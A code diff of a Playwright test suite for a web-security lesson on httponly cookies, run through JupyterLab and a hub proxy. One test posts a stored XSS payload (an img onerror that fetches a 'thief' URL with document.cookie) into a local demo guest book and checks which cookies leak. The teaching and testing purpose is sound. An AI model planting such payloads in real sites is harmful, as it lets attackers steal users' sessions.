@@ -1,47 +1,88 @@
-"""The page of lesson 05 where it comes through jupyter-server-proxy, as on Binder and JupyterHub."""
+"""The pages of lesson 05 where they come through jupyter-server-proxy, as on Binder and JupyterHub."""
 
 from __future__ import annotations
 
+import re
+from pathlib import Path
+
+import pytest
+import requests
+from nbval.plugin import get_sanitize_patterns
 from playwright.sync_api import expect
 
-from tests.browser.lab import (
-    cell,
-    copy_project,
-    jupyterlab_of_a_hub,
-    open_lesson,
-    output,
-    run,
-    run_all,
-    set_preferences,
-)
+from demo_app import CookieOptions, SessionOptions, create_app, serve
+from demo_app.lesson import browse
+from tests.browser.lab import copy_project, jupyterlab_with_proxy, open_lesson, output, run_all, set_preferences
 from tests.browser.use import press
 
+RULES = get_sanitize_patterns(Path(__file__).parents[1].joinpath("sanitize.cfg").read_text(encoding="ascii"))
 
-def test_the_page_comes_below_a_prefix_and_does_all_it_does_elsewhere(page, tmp_path):
+
+@pytest.fixture
+def lesson(page, tmp_path):
+    """Lesson 05, run, and the base address of its JupyterLab."""
     folder, environment = copy_project(tmp_path)
     set_preferences(environment["HOME"], {"notebook-extension/tracker": {"windowingMode": "none"}})
     page.set_viewport_size({"width": 1280, "height": 900})
-    with jupyterlab_of_a_hub(folder, environment, "/user/ada/") as url:
+    with jupyterlab_with_proxy(folder, environment, "/user/ada/") as (base, url):
         open_lesson(page, url, "05_httponly")
         run_all(page)
-        shown = output(page, "browse(visible)")
-        expect(shown).to_contain_text("it comes through the hub")
-        frame = shown.frame_locator("iframe")
-        press(frame, "Visit", "Visit")
-        expect(frame.locator("#result")).to_contain_text('{"visits":2}')
+        yield page, base
 
-        # The cookie is for the whole host, and the page gets those of the Jupyter server, without their values.
-        (cookie,) = (cookie for cookie in page.context.cookies() if cookie["name"] == "visible")
-        assert cookie["path"] == "/"
-        expect(frame.locator("#sent")).to_contain_text("_xsrf=…")
 
-        # Its redirect, its form and its link stay below the prefix.
-        press(cell(page, "browse(open_book)").frame_locator("iframe"), "Log in as ada")
-        with page.expect_response("**/thief*"):
-            run(page, 'browse(open_book, "/guestbook")')
-        book = cell(page, 'browse(open_book, "/guestbook")').frame_locator("iframe")
-        book.get_by_label("Your entry").fill("Hello")
-        book.get_by_role("button", name="Sign the guest book").click()
-        expect(book.get_by_text("Hello")).to_be_visible()
-        run(page, "/thief/loot")
-        expect(output(page, "/thief/loot")).to_contain_text("open_book=s%3A")
+def test_the_page_comes_below_a_prefix_and_the_guest_book_does_not(lesson):
+    page, base = lesson
+    shown = output(page, "browse(visible)")
+    expect(shown).to_contain_text("it comes through the hub")
+    frame = shown.frame_locator("iframe")
+    press(frame, "Visit", "Visit")
+    expect(frame.locator("#result")).to_contain_text('{"visits":2}')
+
+    # The cookie is for the whole host, and the page gets those of the Jupyter server, without their values.
+    (cookie,) = (cookie for cookie in page.context.cookies() if cookie["name"] == "visible")
+    assert cookie["path"] == "/"
+    expect(frame.locator("#sent")).to_contain_text("_xsrf=…")
+
+    # What needs a session there works through the hub, too.
+    press(output(page, "browse(open_book)").last.frame_locator("iframe"), "Log in as ada", "Log out")
+
+    book = output(page, "browse(open_book, open_path)")
+    expect(book).to_contain_text("This page is not shown on a hub.")
+    expect(book).to_contain_text("thief?loot=open_book")
+    expect(book.locator("iframe, script, a")).to_have_count(0)
+
+
+def test_the_record_is_what_a_browser_does(browser, monkeypatch):
+    """What a learner on a hub reads in place of the guest book."""
+    seen = []
+    for httponly in (False, True):
+        browser.clear_cookies()
+        page = browser.new_page()
+        app = create_app(
+            SessionOptions(name="open_book", secret="s", cookie=CookieOptions(httponly=httponly)), guest_book=True
+        )
+        with serve(app) as server:
+            path = app.extensions["guest_book"]
+            entry = """<img src=x onerror="fetch('thief?loot=' + encodeURIComponent(document.cookie))">"""
+            requests.post(server.url + path, data={"entry": entry})
+            page.goto(server.url)
+            press(page, "Log in as ada")
+            asked = []
+            page.on("request", lambda request, asked=asked: asked.append(request))
+            with page.expect_response("**/thief*"):
+                page.goto(server.url + path)
+            seen += [
+                f"  GET {request.url.removeprefix(server.url)}"
+                for request in asked
+                if request.resource_type in ("document", "fetch")
+            ]
+            seen.append(f"  the thief has: {requests.get(f'{server.url}{path}thief/loot').json()}")
+            monkeypatch.setenv("JUPYTERHUB_SERVICE_PREFIX", "/user/ada/")
+            record = repr(browse(server, path))
+            monkeypatch.delenv("JUPYTERHUB_SERVICE_PREFIX")
+        page.close()
+    # In an address, the % of a cookie's value is escaped once more.
+    text = re.sub(r"%25([0-9A-F]{2})", r"%\1", "\n".join(seen))
+    for regex, replace in RULES:
+        text = re.sub(regex, replace, text)
+    assert text.splitlines() == [line.replace("%25", "%") for line in record.splitlines() if line.startswith("  ")]
